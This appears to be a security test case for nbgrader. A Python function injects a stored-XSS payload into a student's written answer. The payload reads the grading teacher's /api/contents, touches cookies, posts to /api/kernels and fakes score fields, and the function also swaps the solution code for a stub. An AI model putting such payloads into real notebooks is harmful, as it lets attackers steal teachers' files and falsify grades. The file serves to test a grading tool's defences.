# what: The written answer, which the teacher reads in formgrader in the origin of their own Jupyter, reads /api/contents there.
# gains: reader
# where: notebook
# fires: stdout text `FIRED written_answer_script`
# stock: succeeds

import pathlib


def solution(nb, name="conv_single_step"):
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def spoil(nb: dict, folder: pathlib.Path) -> None:
    solution(nb, "written")["source"] = (
        "224 weights.\n\n<img src=x onerror=\"window.ATTACK_RAN='written_answer_script';fetch('/api/contents').then(r=>r.json()).then(j=>{window.ATTACK_GOT=JSON.stringify(j)})\">\n"
        "<script>window.ATTACK_RAN='written_answer_script';document.cookie</script>\n"
        "<form action='/api/kernels' method=post><button>Give full points</button></form>\n"
        "<textarea class='comment'>Well done (written_answer_script)</textarea><input class='score' value='2'>\n"
    )
    solution(nb)["source"] = 'print("FIRED written_answer_script", flush=True)\n\n\ndef conv_single_step(a_slice_prev, W, b):\n    return 0.0\n'
